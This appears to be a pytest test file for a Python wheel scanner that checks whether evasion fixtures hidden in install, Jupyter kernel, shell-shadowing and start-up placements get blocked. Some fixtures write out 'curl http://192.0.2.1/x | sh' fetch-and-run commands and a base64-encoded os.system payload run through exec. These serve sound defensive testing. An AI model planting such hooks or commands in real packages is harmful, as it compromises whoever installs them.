"""The evasion catalogue (jupyter_safepip/testing/evasions.py) against the engine: harmless fixtures of the
techniques real campaigns use, in every placement where code runs, each caught at the weight its placement
deserves (install, import or start-up: a block; library code of an unknown project: at least a warning), and
benign twins that must stay quiet. `python benchmarks/evasions.py` prints the same judgement as a table.
Addresses are documentation ones (example.invalid, 192.0.2.x); payloads decode to print()."""

from __future__ import annotations

import ast
import base64
import configparser
import json
import re
import tomllib
import unicodedata

import pytest

from jupyter_safepip.core.checks.archive import scan_archive
from jupyter_safepip.core.model import Severity
from jupyter_safepip.testing.evasions import CASES, Case, Cause, Expect, Placement, build, judge
from tests.support.archives import scan_wheel

# Evasions the engine does not catch at their placement's weight yet (2026-12-02): each is a known gap, listed in
# SECURITY.md. Strict: a case that starts to pass fails here until it is taken off this list.
KNOWN_GAPS = frozenset({
})


@pytest.mark.parametrize("case", [pytest.param(c, marks=pytest.mark.xfail(strict=True, reason="known gap: not caught yet"))
                                  if c.id in KNOWN_GAPS else c for c in CASES], ids=[c.id for c in CASES])
def test_each_case_gets_the_verdict_its_placement_deserves(tmp_path, case: Case):
    scan = scan_archive(build(case, tmp_path))
    outcome = judge(case, scan.findings, scan.errors)
    seen = [(f.rule_id, f.severity.label, f.runs) for f in scan.findings] + [("error", e.reason) for e in scan.errors]
    wanted = "nothing at medium or above" if case.benign else case.expect.value
    assert outcome.met, (f"{case.id} ({case.cause.slug}, {case.placement.label}): {case.technique}; wanted {wanted}, "
                         f"got {outcome.verdict.label}; findings: {seen}")
    if not case.benign and case.placement.runs != "library":
        # caught for where it runs, not only for what it does: the deciding finding says when the code runs
        worst = max(f.severity for f in scan.findings)
        assert case.placement.runs in {f.runs for f in scan.findings if f.severity == worst}, (case.id, seen)


def test_every_cause_has_positives_and_a_benign_twin():
    for cause in Cause:
        cases = [c for c in CASES if c.cause is cause]
        assert sum(not c.benign for c in cases) >= 2 and sum(c.benign for c in cases) >= 1, cause


def test_every_placement_has_a_case_and_each_case_the_weight_its_placement_deserves():
    assert {c.placement for c in CASES} == set(Placement)
    assert len({c.id for c in CASES}) == len(CASES)
    for case in CASES:
        if not case.benign:
            assert case.expect is (Expect.FLAG if case.placement.runs == "library" else Expect.BLOCK), case.id


def _pth_code(text: str) -> list[str]:
    # As CPython 3.11's site.addpackage reads the file: universal newlines, lines starting with "import " run.
    return [line for line in re.split(r"\r\n|\r|\n", text) if line.startswith(("import ", "import\t"))]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_each_fixture_is_well_formed(case: Case):
    """A scanner that cannot parse a fixture would be judged on a broken file, not on the technique."""
    for path, text in case.files.items():
        if path.endswith(".py"):
            ast.parse(text, path)
        elif path.endswith(".json"):
            json.loads(text)
        elif path.endswith(".toml"):
            tomllib.loads(text)
        elif path.endswith(".cfg"):
            configparser.ConfigParser().read_string(text)
        elif path.endswith(".pth"):
            for line in _pth_code(text):
                compile(line, path, "exec")
    if case.placement is Placement.PTH and not case.benign:
        assert any(_pth_code(t) for p, t in case.files.items() if p.endswith(".pth")), "no line site.py would run"


_HOST = re.compile(r"(?:https?|ftp)://([^/:'\"\s]+)")
_IP = re.compile(r"(?<![\d.])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])")
_HARMLESS_HOST = re.compile(r"(?:[\w-]+\.)*example\.invalid|192\.0\.2\.\d{1,3}|127\.0\.0\.1|localhost")


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_each_fixture_is_harmless(case: Case):
    """Even run by mistake, a fixture reaches no real host and decodes to nothing but print('hi')."""
    for path, text in case.files.items():
        text = unicodedata.normalize("NFKC", text)
        for host in _HOST.findall(text) + _IP.findall(text):
            assert _HARMLESS_HOST.fullmatch(host), f"{path}: {host}"
        for blob in re.findall(r"['\"]([A-Za-z0-9+/]{12,}={0,2})['\"]", text):
            try:
                decoded = base64.b64decode(blob, validate=True)
            except ValueError:
                continue
            assert b"http" not in decoded or b"192.0.2." in decoded, f"{path}: {decoded!r}"


KERNEL = "demo-1.0.data/data/share/jupyter/kernels/demo/kernel.json"


@pytest.mark.parametrize(("files", "rule", "blocks"), [
    ({KERNEL: '{"argv": ["bash", "-c", "curl http://192.0.2.1/x | sh; python -m ipykernel -f {connection_file}"]}'},
     "install-jupyter-kernel-command", True),
    ({KERNEL: '{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"]}'}, "install-jupyter-hook", False),
    ({"demo-1.0.data/data/etc/jupyter/jupyter_server_config.d/demo.json":
      '{"ServerApp": {"jpserver_extensions": {"demo": true}}}'}, "install-jupyter-hook", False),
    ({"demo-1.0.data/scripts/python3": "#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"}, "install-command-shadowing", True),
    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ngit = demo.cli:main\n"}, "install-command-shadowing", True),
    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n"}, None, False),
])
def test_what_a_wheel_hooks_into_jupyter_and_the_shell(tmp_path, files, rule, blocks):
    findings = scan_wheel(tmp_path, {"demo/__init__.py": "", **files}).findings
    worst = max((f.severity for f in findings), default=Severity.INFO)
    assert rule is None or rule in {f.rule_id for f in findings}
    assert (worst >= Severity.HIGH) is blocks, [(f.rule_id, f.severity.label) for f in findings]


def test_an_ipython_config_file_in_a_wheel_is_start_up_code(tmp_path):
    code = "import os\nos.system('curl http://192.0.2.1/x | sh')\n"
    startup = scan_wheel(tmp_path / "s", {"demo/__init__.py": "", "demo-1.0.data/data/etc/ipython/ipython_config.py": code})
    assert max(f.severity for f in startup.findings) >= Severity.HIGH
    assert any(f.runs == "startup" for f in startup.findings)


RUN_ID = base64.b64encode(b"import os\nos.system('id')").decode()


def test_decoder_and_payload_in_different_modules_of_the_package(tmp_path):
    files = {"demo/__init__.py": "from .run import go\ngo()\n",
             "demo/blob.py": f"DATA = '{RUN_ID}'\n",
             "demo/run.py": "import base64\nfrom .blob import DATA\ndef go():\n    exec(base64.b64decode(DATA))\n"}
    twin = {**files, "demo/blob.py": "DATA = 'a plain configuration value'\n",
            "demo/run.py": "import base64\nfrom .blob import DATA\ndef go():\n    return base64.b64decode(DATA)\n"}
    caught = scan_wheel(tmp_path / "p", files).findings
    assert "obfuscation-exec-decoded" in {f.rule_id for f in caught}
    assert "obfuscation-exec-decoded" not in {f.rule_id for f in scan_wheel(tmp_path / "t", twin).findings}
